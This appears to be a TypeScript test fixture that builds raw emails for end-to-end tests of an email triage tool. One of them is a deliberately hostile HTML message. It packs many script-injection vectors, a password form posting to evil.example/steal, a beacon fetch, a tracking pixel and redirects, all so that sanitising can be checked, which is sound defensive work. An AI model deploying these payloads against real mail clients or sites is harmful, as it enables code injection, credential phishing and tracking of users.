import { uniqueId } from '../support/intake';

/** A raw message with one body part of the given type (an HTML email unless told otherwise). */
export function rawEmail(options: {
  from?: string;
  subject: string;
  contentType?: string;
  headers?: string[];
  body: string;
}): Buffer {
  return Buffer.from(
    [
      `From: ${options.from ?? 'Sam <sam@example.org>'}`,
      'To: Campaigns <campaigns@campaign-desk.local>',
      `Subject: ${options.subject}`,
      'Date: Mon, 23 Nov 2026 10:00:00 +0000',
      `Message-ID: <${uniqueId('triage-e2e')}>`,
      'MIME-Version: 1.0',
      ...(options.headers ?? []),
      `Content-Type: ${options.contentType ?? 'text/html; charset=utf-8'}`,
      '',
      options.body,
      '',
    ].join('\r\n'),
  );
}

/** Every way the hostile message tries to run code; each would set `pwned` (here or on the top window), change the title, alert or leave. */
const HOSTILE_HTML = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<script>window.top.pwned = 'script'; top.document.title = 'pwned'; alert('script');</script>
<style>body { background: url("https://evil.example/css.png"); }</style>
</head><body>
<p>Hostile payload marker: please help my mum.</p>
<img src="x" onerror="window.top.pwned='onerror'; alert('onerror')">
<img src="https://tracker.example/pixel.gif" alt="tracker">
<a id="js-link" href="javascript:window.top.pwned='link';alert('link')">click me</a>
<a href="data:text/html,<script>parent.pwned='data'</script>">data link</a>
<svg xmlns="http://www.w3.org/2000/svg" onload="window.top.pwned='svg'"><script>window.top.pwned='svg-script'</script></svg>
<iframe src="javascript:parent.pwned='iframe'"></iframe>
<object data="data:text/html,<script>parent.pwned='object'</script>"></object>
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<div onmouseover="window.top.pwned='hover'" style="width:300px;height:40px">hover over me</div>
<body onload="window.top.pwned='body-onload'; fetch('https://evil.example/beacon')">
</body></html>`;

export function hostileEmail(subject: string): Buffer {
  return rawEmail({ from: 'Mallory <mallory@example.net>', subject, body: HOSTILE_HTML });
}

/** Text with quoted history, and a PDF the sender marked inline (it must still only be a download). */
export function emailWithAttachment(subject: string): Buffer {
  const pdf = Buffer.from('%PDF-1.4\n% a tiny letter\n').toString('base64');
  const body = [
    '--b1',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'The new part.',
    '',
    'On Mon, Sam wrote:',
    '> the quoted old part',
    '--b1',
    'Content-Type: application/pdf; name="letter.pdf"',
    'Content-Disposition: inline; filename="letter.pdf"',
    'Content-Transfer-Encoding: base64',
    '',
    pdf,
    '--b1--',
  ].join('\r\n');
  return rawEmail({ subject, contentType: 'multipart/mixed; boundary="b1"', body });
}
